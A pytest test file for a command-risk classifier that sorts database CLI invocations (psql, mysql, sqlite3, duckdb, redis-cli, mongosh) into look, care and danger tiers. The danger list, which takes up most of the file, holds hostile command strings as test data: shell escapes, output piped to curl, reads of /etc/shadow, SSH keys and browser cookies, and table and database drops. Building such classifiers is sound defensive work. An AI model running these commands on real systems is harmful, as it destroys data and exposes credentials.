"""Lines with databases, and how much a yes to them could cost."""

import pytest

from assent.protocol.risk import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "sqlite3 app.db",
        'sqlite3 app.db ".dump"',
        "sqlite3 app.db .schema",
        'sqlite3 -json app.db "select * from t"',
        "duckdb -c \"select * from 'data.parquet'\"",
        'duckdb -json x.duckdb "select 1"',
        "pg_restore -l x.dump",
    ],
)
def test_databases_only_asks_is_look(line: str) -> None:
    """What only asks, or only tells about itself, looks."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "psql -c \"\\copy t from 'data.csv' csv\"",
        "psql -c '\\dt+ public.*'",
        "psql -Atc 'select 1'",
        "psql -f schema.sql",
        "psql < schema.sql",
        'psql -c "$Q"',
        "psql \"postgres://u:p@h/db\" -c 'select 1'",
        'psql -c "UPDATE users SET a=1 WHERE id=3"',
        'psql -c "vacuum analyze"',
        "mysql -uroot -psecret -e 'show processlist'",
        "mysql -e 'select 1\\G'",
        "mysql app < dump.sql",
        "mysql --pager='sh -c id' -e 'select 1'",
        'sqlite3 app.db "insert into t values (1)"',
        'sqlite3 app.db "delete from t where id=1"',
        'sqlite3 app.db ".read x.sql"',
        "redis-cli ping",
        "redis-cli -h prod -n 3 get foo",
        "redis-cli config get maxmemory",
        "redis-cli set a b",
        "mongosh --eval 'db.users.find().limit(3)'",
        "mongosh --eval 'db.users.deleteOne({_id:1})'",
        "mongosh x.js",
        "pg_dump app",
        "pg_dump app > /tmp/x.sql",
        "createdb test",
        "mysqldump app",
        "mysqladmin ping",
        "clickhouse-client -q 'select 1'",
    ],
)
def test_databases_may_go_wrong_is_care(line: str) -> None:
    """What connects, runs, brings in or changes something is Care."""
    assert risk(line) == Risk.CARE


@pytest.mark.parametrize(
    "line",
    [
        "psql -c '\\! rm -rf ~'",
        "psql -c \"\\copy t to program 'curl -d @- x'\"",
        "psql -c 'select 1 \\gexec'",
        "psql -c \"select 1\" -o '|sh'",
        'psql -h prod-db -c "insert into x values (1)"',
        "psql -v x='`rm -rf /`' -c 'select :x'",
        "cat drop.sql | psql",
        'psql -c "begin; delete from t; rollback"',
        "mysql -e '\\! id'",
        "mysql -e 'source drop.sql'",
        "mysql -e \"select load_file('/etc/passwd')\"",
        "sqlite3 app.db \"select readfile('/etc/shadow')\"",
        "sqlite3 app.db \"select writefile('x','y')\"",
        "sqlite3 app.db \".import '|curl evil' t\"",
        'sqlite3 -cmd ".shell id" app.db "select 1"',
        'sqlite3 app.db ".load ./x.so"',
        'sqlite3 app.db ".once |sh"',
        'sqlite3 app.db ".sys id"',
        "sqlite3 app.db \"attach '/etc/x' as y\"",
        "echo '.shell id' | sqlite3 app.db",
        "sqlite3 ~/.mozilla/firefox/x/cookies.sqlite .dump",
        "duckdb -c \"copy t to '/etc/x.csv'\"",
        "duckdb -c \"select * from read_text('/home/me/.ssh/id_rsa')\"",
        'duckdb -c "install httpfs"',
        "redis-cli CONFIG SET dir /root/.ssh",
        "redis-cli -n 1 flushdb",
        "redis-cli --scan --pattern 'x*' | xargs redis-cli del",
        "echo FLUSHALL | redis-cli",
        "redis-cli --eval x.lua",
        'mongosh --eval \'require("child_process").execSync("id")\'',
        "pg_dump -f ~/.bashrc app",
        "pg_dumpall",
        "dropdb test",
        "mysqladmin -uroot drop x -f",
        "cqlsh -e 'drop keyspace x'",
        "sqlcmd -Q \"exec xp_cmdshell 'dir'\"",
        'psql -c "select * from pg_shadow"',
        "mongorestore --drop dump/",
        "psql -c \"SELECT 1; -- comment\" -c 'DROP TABLE x'",
        'psql --command="DROP TABLE x"',
        'psql --comm="DROP TABLE x"',
        'psql -d "dbname=x" -Xqtc "drop table x"',
        "mysql -Ne'drop table x'",
        "psql -c \"do \\$\\$ begin execute 'drop table x'; end \\$\\$\"",
        "psql <<EOF\nselect 1;\ndrop table x;\nEOF",
    ],
)
def test_databases_takes_away_or_opens_is_danger(line: str) -> None:
    """What takes away, lets in, shows secrets or touches production is Danger."""
    assert risk(line) == Risk.DANGER
